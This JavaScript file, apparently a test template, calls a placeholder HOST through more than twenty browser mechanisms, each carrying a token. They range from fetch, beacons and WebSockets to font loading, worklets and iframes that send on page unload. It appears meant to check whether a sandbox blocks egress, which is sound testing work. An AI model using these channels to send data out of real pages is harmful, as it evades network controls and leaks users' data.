// What a page can do to send something to a host: HOST is its address, DATAGRAMS that
// of a listener for UDP there, SECURE one that wants TLS, NAME a name that leads there.
// The path of each request names the way.
const way = name => "http://HOST/" + name + "?t=" + token;
const attempt = action => { try { Promise.resolve(action()).catch(() => {}); } catch {} };
const later = (milliseconds, action) => setTimeout(() => attempt(action), milliseconds);
const add = (name, attributes, text) => {
	const e = document.createElement(name);
	for (const [key, value] of Object.entries(attributes)) e.setAttribute(key, value);
	if (text) e.textContent = text;
	document.body.append(e);
	return e;
};

// ask is a script that asks, in whatever it runs.
const ask = name => "fetch('" + way(name) + "', {mode: 'no-cors'}).catch(() => {});";
// file is the address of a file that the page has made, of which a data: address is another form.
const file = (type, text) => URL.createObjectURL(new Blob([text], {type}));
const data = (type, text) => "data:" + type + "," + encodeURIComponent(text);

// Scripts that ask.
attempt(() => fetch(way("fetch"), {mode: "no-cors"}));
attempt(() => fetch(way("keepalive"), {mode: "no-cors", keepalive: true}));
attempt(() => fetchLater(way("fetchlater"), {activateAfter: 0}));
attempt(() => { const x = new XMLHttpRequest(); x.open("GET", way("xhr")); x.send(); });
attempt(() => navigator.sendBeacon(way("beacon"), token));
attempt(() => new WebSocket("ws://HOST/websocket?t=" + token));
attempt(() => new EventSource(way("eventsource")));
attempt(() => import(way("import.js")));
attempt(() => caches.open("out").then(cache => cache.add(new Request(way("cache"), {mode: "no-cors"}))));
attempt(() => new FontFace("out", "url(" + way("fontface") + ")").load());
attempt(() => new AudioContext().audioWorklet.addModule(way("audioworklet")));
attempt(() => CSS.paintWorklet.addModule(way("paintworklet")));
attempt(() => WebAssembly.compileStreaming(fetch(way("wasm"))));
attempt(() => import(way("import.json"), {with: {type: "json"}}));
attempt(() => import(way("css-module"), {with: {type: "css"}}));
add("script", {type: "importmap"}, JSON.stringify({imports: {"out-NUMBER": way("importmap.js")}}));
attempt(() => import("out-NUMBER"));
attempt(() => new WebSocketStream("ws://HOST/websocketstream?t=" + token).opened);
attempt(() => fetch("/redirect?to=" + encodeURIComponent(way("redirected")), {mode: "no-cors"}));
attempt(() => fetch(way("topics"), {mode: "no-cors", browsingTopics: true}));
attempt(() => fetch(way("attribution"), {mode: "no-cors", keepalive: true, attributionReporting: {eventSourceEligible: true, triggerEligible: false}}));
attempt(() => document.fonts.add(new FontFace("fonts", "url(" + way("fonts-add") + ")")) && document.fonts.load("1em fonts"));
attempt(() => new VideoDecoder({output() {}, error() {}}) && new ImageDecoder({type: "image/png", data: fetch(way("imagedecoder")).then(r => r.body)}));

// Scripts that ask as their window goes.
for (const [name, event, send] of [["pagehide", "pagehide", "navigator.sendBeacon"], ["unload", "unload", "navigator.sendBeacon"], ["keepalive-later", "pagehide", "(a => fetch(a, {mode: 'no-cors', keepalive: true}))"],
	["fetchlater-unload", "load", "(a => fetchLater(a, {activateAfter: 60000}))"]]) {
	const frame = add("iframe", {srcdoc: "<script>addEventListener('" + event + "', () => " + send + "('" + way(name) + "'))<\/script>"});
	frame.addEventListener("load", () => later(200, () => frame.remove()));
}
